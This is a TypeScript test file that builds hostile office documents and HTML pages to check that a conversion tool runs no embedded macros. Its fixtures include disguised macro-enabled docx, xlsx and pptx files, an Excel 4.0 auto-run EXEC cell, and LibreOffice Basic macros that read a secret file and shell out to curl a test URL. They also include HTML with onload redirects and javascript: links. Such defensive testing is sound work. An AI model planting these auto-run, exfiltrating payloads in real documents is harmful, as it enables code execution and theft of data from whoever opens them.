import { DOCX, HTML, ODS, ODT, PPTX, XLSX } from '@creatorr/tool-kit/files/media-types';
import { oleFile } from '@creatorr/tool-kit/testing/ole-file';
import { type OdfKind, odf } from '@creatorr/tools/testing/builders/odf';
import { docx, pptx, xlsx } from '@creatorr/tools/testing/builders/ooxml';
import type { Family } from '../hostile-case.ts';
import type { World } from '../world.ts';
import { type Files, forOffice } from './case-tables.ts';

const NOT_RUN = /^(?![\s\S]*MACRO RAN)[\s\S]*Harmless/;

/** Programs in documents: none runs. */
export const macros: Family = {
	name: 'macros',
	cases: (world) =>
		Object.entries({
			[DOCX]: {
				'a docm, called a docx': () => docx(withVba('word', 'word.document.macroEnabled')),
				'a dotm, called a docx': () => docx(withVba('word', 'word.template.macroEnabledTemplate')),
				'a docx that hides a macro': () => docx(withVba('word')),
			},
			[XLSX]: {
				'an xlsm, called an xlsx': () => xlsx(withVba('xl', 'excel.sheet.macroEnabled')),
				'an xlsx with an Excel 4.0 macro': () => xlsx(OLD_MACRO),
			},
			[PPTX]: { 'a pptm, called a pptx': () => pptx(withVba('ppt', 'powerpoint.presentation.macroEnabled')) },
			[ODT]: { ...basicInOdt(world), ...FORMS_AND_FIELDS },
			[ODS]: {
				'Basic in an ods, when it is opened': () => withBasic(world, 'spreadsheet', 'dom:load', BASIC),
			},
			[HTML]: pages(world),
		}).flatMap(([mimeType, files]) => forOffice(mimeType, NOT_RUN, files)),
};

/** Returns the parts of an Office document with a VBA project, of a type that declares it or not. */
function withVba(folder: string, mainType?: string) {
	const project = oleFile({
		PROJECT: Buffer.from('ID="{0}"'),
		dir: Buffer.alloc(5000, 1),
		ThisDocument: Buffer.alloc(5000, 1),
	});
	const type = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';
	return {
		...(mainType && { mainType: `application/vnd.ms-${mainType}.main+xml` }),
		extra: [{ name: `${folder}/vbaProject.bin`, content: project }],
		relations: [{ id: 'rId7', type, target: 'vbaProject.bin' }],
		types: `<Override PartName="/${folder}/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>`,
	};
}

const OLD_MACRO = {
	workbook:
		'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">One!$A$1</definedName></definedNames>',
	body: '<row r="2"><c r="A2"><f>EXEC("id")</f><v>0</v></c></row>',
};

const SCRIPT = 'vnd.sun.star.script:';
const BASIC = `${SCRIPT}Standard.M.Main?language=Basic&amp;location=document`;
const EVENTS = [
	...['dom:load', 'office:new', 'dom:unload'],
	...['office:print', 'office:layout-finished', 'office:view-created'],
];

function basicInOdt(world: World): Files {
	const onEvents = EVENTS.map((event) => [
		`Basic in an odt, at ${event}`,
		() => withBasic(world, 'text', event, BASIC),
	]);
	const onLoad = (command: string) => () => withBasic(world, 'text', 'dom:load', command);
	return {
		...Object.fromEntries(onEvents),
		'Python in an odt, when it is opened': onLoad(`${SCRIPT}m.py$main?language=Python&amp;location=document`),
		'a LibreOffice script, when it is opened': onLoad(
			`${SCRIPT}Capitalise.py$capitalisePython?language=Python&amp;location=share`,
		),
		'a LibreOffice command, when it is opened': onLoad('.uno:Quit'),
	};
}

/** Returns a document with macros, one of which an event calls: it writes the secret into the document, and sends a request. */
function withBasic({ files, url }: World, kind: OdfKind, event: string, command: string): Buffer {
	const basic = [
		'Sub Main',
		`Open "${files.text}" For Input As #1`,
		'Line Input #1, s',
		'ThisComponent.Text.insertString(ThisComponent.Text.getEnd(), "MACRO RAN " &amp; s, False)',
		`Shell("/bin/sh", 0, "-c 'curl ${url('macro')}'")`,
		'End Sub',
	].join('\n');
	const parts = {
		'Basic/script-lc.xml':
			'<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>',
		'Basic/Standard/script-lb.xml':
			'<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>',
		'Basic/Standard/M.xml': `<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${basic}</script:module>`,
		'Scripts/python/m.py': `def main(*_):\n    open("/scratch/ran", "w").write(open("${files.text}").read())\n`,
	};
	const names = Object.keys(parts);
	const listener = `<script:event-listener script:language="ooo:script" script:event-name="${event}" xlink:href="${command}" xlink:type="simple"/>`;
	return odf(kind, {
		head: `<office:scripts><office:event-listeners>${listener}</office:event-listeners></office:scripts>`,
		extra: Object.entries(parts).map(([name, content]) => ({ name, content })),
		types: Object.fromEntries(names.map((name) => [name, name.endsWith('.xml') ? 'text/xml' : ''])),
	});
}

const BUTTON = `<office:forms><form:form><form:button form:control-implementation="ooo:com.sun.star.form.component.CommandButton" form:id="c"><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="form:performaction" xlink:href="${BASIC}"/></office:event-listeners></form:button></form:form></office:forms>`;
const FIELDS =
	'<text:p><text:script script:language="JavaScript">alert(1)</text:script><text:execute-macro text:name="Standard.M.Main">run</text:execute-macro></text:p>';

const FORMS_AND_FIELDS: Files = {
	'a button with a macro': () => odf('text', { body: BUTTON }),
	'fields of script and macro': () => odf('text', { body: FIELDS }),
};

function pages({ files, url }: World): Files {
	const scripts = `<p>Harmless</p><script>document.write('MACRO RAN')</script><script language="StarBasic">Sub Main\nPrint "MACRO RAN"\nEnd Sub</script><a href="javascript:alert(1)">a</a><a href="macro:///Standard.M.Main()">b</a>`;
	const applet = `<p>Harmless</p><applet code="A.class" codebase="${url('applet')}"></applet><embed src="file://${files.html}">`;
	return {
		'scripts of a page of HTML': () =>
			Buffer.from(`<html><body onload="location='${url('js')}'">${scripts}</body></html>`),
		'an applet and a plugin': () => Buffer.from(`<html><body>${applet}</body></html>`),
	};
}
